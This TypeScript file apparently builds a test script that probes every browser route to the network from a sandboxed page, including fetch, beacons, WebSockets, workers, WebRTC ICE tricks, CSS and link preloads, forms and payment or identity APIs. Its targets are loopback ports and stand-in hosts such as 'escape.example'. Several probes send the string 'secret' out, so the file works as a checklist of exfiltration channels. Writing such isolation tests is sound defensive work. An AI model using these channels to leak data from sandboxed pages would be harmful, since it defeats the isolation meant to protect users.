/** Destinations that a page may try to reach. */
export interface Targets {
  /** Address of a server on loopback that the page must not contact. */
  readonly tcpPort: number;
  readonly udpPort: number;
}

/**
 * Returns a script that tries, from within a page, each way to the network that a browser has: to a name, to an
 * address outside this computer, and to a server on loopback. Its value is the number of attempts.
 */
export function escapeScript({ tcpPort, udpPort }: Targets): string {
  const hosts = [`127.0.0.1:${tcpPort}`, `localhost:${tcpPort}`, '198.51.100.7', 'escape.example'];
  const ice = [
    ...[
      `127.0.0.1:${udpPort}`,
      '198.51.100.7:3478',
      '[2001:db8::7]:3478',
      'escape.example:3478',
    ].flatMap((place) => [`stun:${place}`, `turn:${place}?transport=udp`]),
    ...[`127.0.0.1:${tcpPort}`, '198.51.100.7:3478', 'escape.example:3478'].flatMap((place) => [
      `turn:${place}?transport=tcp`,
      `turns:${place}?transport=tcp`,
    ]),
  ];
  return `(async () => {
    const hosts = ${JSON.stringify(hosts)}, ice = ${JSON.stringify(ice)};
    let tries = 0;
    const attempt = async (what) => {
      tries++;
      try { await Promise.race([what(), new Promise((go) => setTimeout(go, 1500))]); } catch {}
    };
    const element = (name, attributes, parent = document.body) => {
      const made = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
      parent.append(made);
      return made;
    };
    const peer = async (Peer) => {
      for (const urls of ice) {
        const connection = new Peer({ iceServers: [{ urls, username: 'u', credential: 'c' }] });
        connection.createDataChannel('way');
        await connection.setLocalDescription(await connection.createOffer());
      }
      // A candidate of another peer is connected to without any server.
      const direct = new Peer();
      direct.createDataChannel('way');
      await direct.setLocalDescription(await direct.createOffer());
      const sdp = direct.localDescription.sdp.replace(/a=setup:actpass/, 'a=setup:active');
      await direct.setRemoteDescription({ type: 'answer', sdp });
      for (const [transport, port] of [['udp', ${udpPort}], ['tcp', ${tcpPort}]]) {
        for (const address of ['127.0.0.1', '198.51.100.7', 'escape.local']) {
          await direct.addIceCandidate({
            candidate: 'candidate:1 1 ' + transport + ' 2122260223 ' + address + ' ' + port + ' typ host' +
              (transport === 'tcp' ? ' tcptype passive' : ''),
            sdpMid: '0', sdpMLineIndex: 0,
          }).catch(() => undefined);
        }
      }
    };
    const all = [];
    const go = (what) => all.push(attempt(what));
    go(() => peer(RTCPeerConnection));
    go(() => peer(element('iframe', {}).contentWindow.RTCPeerConnection));
    go(() => peer(element('iframe', { srcdoc: '<p>' }).contentWindow.RTCPeerConnection));
    go(() => fetch('/none', { headers: { 'x': 'y' }, referrer: 'about:client' }));
    for (const host of hosts) {
      for (const scheme of ['http', 'https']) {
        const url = scheme + '://' + host + '/';
        const tries = [
          () => fetch(url, { mode: 'no-cors' }),
          () => fetch(url, { method: 'POST', body: 'secret', keepalive: true, mode: 'no-cors' }),
          () => new Promise((end) => { const x = new XMLHttpRequest(); x.onloadend = end; x.open('GET', url); x.send(); }),
          () => navigator.sendBeacon(url, 'secret'),
          () => new EventSource(url),
          () => new Worker(url),
          () => new SharedWorker(url),
          () => new Worker(URL.createObjectURL(new Blob(['fetch("' + url + '")']))),
          () => navigator.serviceWorker.register(url),
          () => import(url),
          () => new Image().setAttribute('src', url),
          () => new Image().setAttribute('srcset', url + ' 2x'),
          () => new Audio(url).play(),
          () => new FontFace('far', 'url(' + url + ')').load(),
          () => new WebTransport(url).ready,
          () => document.body.style.setProperty('background-image', 'url(' + url + ')'),
          () => element('div', { style: 'cursor: url(' + url + '), auto; list-style-image: url(' + url + ')' }),
          () => element('style', {}).append('@import "' + url + '"; @font-face { font-family: far; src: url(' + url + ') }'),
          () => new CSSStyleSheet({ baseURL: url }).replace('p { background: url(' + url + ') }'),
          () => element('base', { href: url }, document.head),
          () => element('meta', { 'http-equiv': 'refresh', content: '0; url=' + url }, document.head),
          () => element('a', { href: '#', ping: url }).click(),
          () => element('a', { href: url, download: 'file' }).click(),
          () => element('a', { href: url, target: '_blank' }).click(),
          () => element('iframe', { src: url }),
          () => element('iframe', { srcdoc: '<img src="' + url + '"><script>fetch("' + url + '")</script>' }),
          () => element('iframe', {}).contentWindow.fetch(url),
          () => element('iframe', { src: 'data:text/html,<img src="' + url + '">' }),
          () => element('object', { data: url }),
          () => element('embed', { src: url }),
          () => element('video', { src: url, poster: url }),
          () => element('script', { src: url }),
          () => element('script', { type: 'speculationrules' }).append(JSON.stringify({ prefetch: [{ source: 'list', urls: [url] }], prerender: [{ source: 'list', urls: [url] }] })),
          () => { const form = element('form', { action: url, method: 'post' }); form.submit(); },
          () => { const form = element('form', { action: url, target: '_blank' }); form.submit(); },
          () => window.open(url),
          () => navigator.share?.({ url }),
          () => { navigator.mediaSession.metadata = new MediaMetadata({ title: 'x', artwork: [{ src: url }] }); },
          () => navigator.credentials.get({ identity: { providers: [{ configURL: url, clientId: '1' }] } }),
          () => new PaymentRequest([{ supportedMethods: url }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment(),
          () => { document.body.insertAdjacentHTML('beforeend', '<svg><image href="' + url + '"/><use href="' + url + '#x"/></svg>'); },
          ...['dns-prefetch', 'preconnect', 'prefetch', 'prerender', 'modulepreload', 'stylesheet', 'icon', 'manifest', 'apple-touch-icon', 'search'].map(
            (rel) => () => element('link', { rel, href: url }, document.head)),
          ...['image', 'font', 'script', 'style', 'fetch', 'track'].map(
            (as) => () => element('link', { rel: 'preload', as, href: url, crossorigin: '' }, document.head)),
        ];
        for (const one of tries) go(one);
      }
      go(() => new WebSocket('ws://' + host + '/'));
      go(() => new WebSocket('wss://' + host + '/'));
      go(() => fetch('ftp://' + host + '/'));
      go(() => { location.href = 'ftp://' + host + '/'; });
      go(() => { location.href = 'mailto:someone@' + host; });
    }
    await Promise.all(all);
    return tries;
  })()`;
}
